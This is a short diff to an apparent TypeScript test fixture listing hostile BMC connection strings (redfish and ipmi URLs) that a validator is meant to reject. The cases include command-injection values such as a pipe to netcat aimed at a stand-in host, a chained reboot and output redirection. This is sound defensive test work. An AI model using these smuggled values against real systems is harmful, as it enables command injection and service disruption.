@@ -332,7 +332,7 @@ function bmcCases(): HostileCase[] {
     "redfish://host|nc evil 1",
     "redfish://host&&reboot",
     "redfish://host /x",
-    "ipmi://host>/tmp/x",
+    "ipmi://host>out.log",
     "redfish:///redfish/v1",
     "ipmi://host:99999",
     "ipmi://host:abc",
